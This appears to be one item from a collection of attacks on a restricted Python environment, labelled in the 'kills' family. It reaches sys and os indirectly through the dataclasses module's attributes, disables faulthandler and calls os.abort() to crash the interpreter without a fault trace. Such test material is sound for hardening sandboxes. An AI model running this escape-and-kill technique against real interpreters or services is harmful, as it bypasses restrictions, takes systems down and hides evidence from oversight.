# attack: os.abort, after the handlers for faults are gone
# family: kills
import dataclasses

for module in [dataclasses]:
    module.sys.modules["importlib"].import_module("faulthandler").disable()
    print("REACHED", module.inspect.os)
    module.inspect.os.abort()
